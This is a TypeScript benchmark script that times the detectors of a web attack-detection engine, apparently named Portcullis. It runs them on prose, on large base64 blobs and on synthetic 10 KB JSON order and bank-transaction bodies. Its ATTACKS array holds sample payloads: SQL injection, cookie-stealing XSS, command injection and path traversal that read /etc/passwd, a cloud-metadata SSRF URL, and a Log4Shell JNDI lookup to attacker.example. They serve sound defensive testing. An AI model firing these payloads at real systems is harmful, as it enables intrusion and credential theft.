/**
 * Micro-benchmarks of the attack-detection engine: each detector on its own, then the whole inspection of a
 * 10 KB JSON body (extraction, decoding layers, every detector) as the protection runs it.
 *
 *   node bench/micro/inspection.ts [--iterations N]
 *
 * Prints microseconds per call (mean and p99) per detector and per input, and p50/p99 for the body.
 */
import { performance } from 'node:perf_hooks';
import { parseArgs } from 'node:util';
import { DETECTORS } from '../../src/inspect/detect/index.ts';
import type { DetectorContext } from '../../src/inspect/finding.ts';
import { inspectInputs } from '../../src/inspect/engine.ts';
import { compileSettings } from '../../src/protections/attack-detection/attack-detection.ts';
import { bodyInputs } from '../../src/protections/attack-detection/request-inputs.ts';
import { createLocalStores } from '../../src/store/registry.ts';

const { values } = parseArgs({ options: { iterations: { type: 'string', default: '2000' } } });
const iterations = Number(values.iterations);

/** Ordinary text of about 10 KB: product prose with punctuation, numbers, quotes and a URL or two. */
function prose(bytes: number, from = 0): string {
  const sentences = [
    "Our sourdough is baked fresh every morning; it's made from flour, water & salt (nothing else).",
    'Select a size from the list below, then add it to your basket - delivery takes 1 or 2 days.',
    'Questions? Write to support@example.com or see https://example.com/help?topic=delivery&lang=en.',
    "O'Brien's order #1024 shipped on 2026-11-20 at 10:30, tracking code KR-4471-AB.",
    'Prices include VAT (10%); a discount of 5% applies to orders over 50,000 KRW.',
  ];
  let text = '';
  for (let i = from; text.length < bytes; i++) text += sentences[i % sentences.length] + ' ';
  return text.slice(0, bytes);
}

/**
 * A 10 KB JSON order document with nested objects, arrays and free-text fields. `seed` makes every value that a
 * real order would carry differently (order id, SKUs, notes, names) unique to this document, so a benchmark that
 * cycles through documents never replays a remembered result for them; keys and small numbers repeat, as in life.
 */
function orderJson(bytes: number, seed: number): string {
  const items = [];
  let doc = '';
  for (let i = 0; ; i++) {
    items.push({
      sku: `SKU-${seed}-${1000 + i}`, name: `Item ${seed}/${i} - oat & honey loaf`, qty: (i % 3) + 1, price: 4500 + i * 10,
      note: `${prose(100 + (i % 7) * 5, seed + i)} (ref ${seed}.${i})`,
    });
    doc = JSON.stringify({
      orderId: `ord_${seed}`,
      customer: { name: `Ji-woo O'Neil ${seed}`, email: `jiwoo${seed}@example.com`, phone: `010-${1000 + (seed % 9000)}-5678` },
      items, comment: `${prose(400, seed)} Order ${seed}.`,
    });
    if (doc.length >= bytes) return doc;
  }
}

/**
 * A 10 KB JSON list of account transactions, as an open-banking (MyData-style) API returns or receives them:
 * identifiers, timestamps, amounts as decimal strings, currency and type codes, counterparties and short memos,
 * some in Korean. `seed` makes the identifiers, amounts and times of each document its own.
 */
function transactionsJson(bytes: number, seed: number): string {
  const memos = ['급여', 'Coffee & Bakery', '관리비 11월', "Lee's Mart #12", 'ATM 출금', 'Refund - order 5521', '카드대금', 'Transfer to savings'];
  const counterparties = ['Kookmin Bank', '(주)한빛상사', 'Daily Coffee Co.', 'Seoul Gas', 'Naver Pay', 'Shinhan Card'];
  const list = [];
  let balance = 1_000_000 + (seed % 977) * 1000;
  let doc = '';
  for (let i = 0; ; i++) {
    const amount = ((seed * 7919 + i * 104729) % 500_000) + 1000;
    balance += i % 3 === 0 ? amount : -amount;
    list.push({
      trans_dtime: `2026${String(1 + (i % 12)).padStart(2, '0')}${String(1 + (seed + i) % 28).padStart(2, '0')}${String((seed * 3 + i) % 24).padStart(2, '0')}3015`,
      trans_no: `T${seed}${String(i).padStart(6, '0')}`,
      trans_type: i % 3 === 0 ? '01' : '02',
      trans_class: i % 3 === 0 ? 'deposit' : 'withdrawal',
      currency_code: 'KRW',
      trans_amt: `${amount}.000`,
      balance_amt: `${balance}.000`,
      counterparty: counterparties[(seed + i) % counterparties.length],
      trans_memo: memos[(seed * 5 + i) % memos.length],
      is_cancelled: false,
    });
    doc = JSON.stringify({
      rsp_code: '00000', rsp_msg: '정상처리', search_timestamp: `${20261127000000 + seed}`,
      account_num: `110-${String(seed % 1000).padStart(3, '0')}-${String(seed * 31 % 1_000_000).padStart(6, '0')}`,
      next_page: `p${seed}-${i}`, trans_cnt: list.length, trans_list: list,
    });
    if (doc.length >= bytes) return doc;
  }
}

const ATTACKS: string[] = [
  "1' OR '1'='1' -- ",
  '1 UNION SELECT username, password FROM users',
  '<img src=x onerror=alert(document.cookie)>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
];

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

function time(fn: () => void, n: number): { mean: number; p99: number } {
  const samples: number[] = [];
  for (let i = 0; i < Math.min(200, n); i++) fn(); // warm-up
  for (let i = 0; i < n; i++) {
    const start = performance.now();
    fn();
    samples.push((performance.now() - start) * 1000);
  }
  samples.sort((a, b) => a - b);
  return { mean: samples.reduce((a, b) => a + b, 0) / samples.length, p99: percentile(samples, 99) };
}

const context: DetectorContext = { source: 'query', name: 'q', isName: false, paranoia: 1, layers: [] };
const benign = prose(10 * 1024);
/** A file sent inside JSON: 100 KB of base64 of pseudo-random bytes (fixed seed, the same in every run). */
const blob = (() => {
  const bytes = Buffer.alloc(75 * 1024);
  let x = 2463534242;
  for (let i = 0; i < bytes.length; i++) { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; bytes[i] = x & 0xff; }
  return bytes.toString('base64');
})();
console.log(`node ${process.version}; ${iterations} iterations; ${DETECTORS.length} detectors`);
console.log('\ndetector        10 KB prose mean/p99 µs    8 attack strings mean/p99 µs    100 KB base64 mean µs');
let blobTotal = 0;
for (const detector of DETECTORS) {
  const onProse = time(() => detector.detect(benign, context, () => {}), iterations);
  const onAttacks = time(() => { for (const attack of ATTACKS) detector.detect(attack, context, () => {}); }, iterations);
  const onBlob = time(() => detector.detect(blob, context, () => {}), Math.max(20, Math.round(iterations / 50)));
  blobTotal += onBlob.mean;
  console.log(`${detector.category.padEnd(15)} ${onProse.mean.toFixed(1).padStart(10)} / ${onProse.p99.toFixed(1).padEnd(12)} ${onAttacks.mean.toFixed(1).padStart(10)} / ${onAttacks.p99.toFixed(1).padEnd(18)} ${onBlob.mean.toFixed(0).padStart(8)}`);
}
console.log(`every detector on the 100 KB base64 value: ${(blobTotal / 1000).toFixed(2)} ms`);

// The whole body as the protection inspects it: the engine settings compiled from the default configuration (with
// the result cache for short values), over documents whose values are unique to each document.
const settings = compileSettings({}, { policy: {} as never, stores: createLocalStores(), scope: 'global', issue: () => {} });
const DOCUMENTS = 512;
// The body's inputs as the protection takes them (bodyInputs: each key once, no numbers or booleans).
const bodyOptions = { unknownBodyTypes: 'reject' as const, uninspected: [] };
const inspectBody = (body: Buffer): void => {
  const extracted = bodyInputs('application/json', body, bodyOptions);
  if (!('inputs' in extracted) || extracted.inputs === null) throw new Error('the benchmark body does not parse');
  if (inspectInputs(extracted.inputs, settings).length > 0) throw new Error('the benchmark body is benign and must pass');
};

/** Inspects `iterations` documents never seen before, after a warm-up over DOCUMENTS others; prints the timings. */
function measureBodies(label: string, make: (bytes: number, seed: number) => string): void {
  for (let i = 0; i < DOCUMENTS; i++) inspectBody(Buffer.from(make(10 * 1024, i + 1))); // warm-up (keys enter the cache)
  const fresh = Array.from({ length: iterations }, (_, i) => Buffer.from(make(10 * 1024, DOCUMENTS + i + 1)));
  const samples: number[] = [];
  for (const body of fresh) {
    const start = performance.now();
    inspectBody(body);
    samples.push(performance.now() - start);
  }
  samples.sort((a, b) => a - b);
  const mean = samples.reduce((a, b) => a + b, 0) / samples.length;
  console.log(`\n10 KB JSON body, ${label} (${fresh[0]!.length} bytes, ${iterations} documents each seen once), extract + decode + every detector at paranoia 1:`);
  console.log(`  mean ${mean.toFixed(3)} ms, p50 ${percentile(samples, 50).toFixed(3)} ms, p99 ${percentile(samples, 99).toFixed(3)} ms (target p99 < 1 ms)`);
}

// The issue's target is measured on the order document: its free-text notes (prose with quotes, parentheses, `&`,
// URLs and e-mail addresses) are the costly case. The transaction list is what the APIs Portcullis is first built
// for (MyData-style account data) mostly carry: codes, amounts, dates and short memos.
measureBodies('order with prose notes', orderJson);
measureBodies('account transactions', transactionsJson);
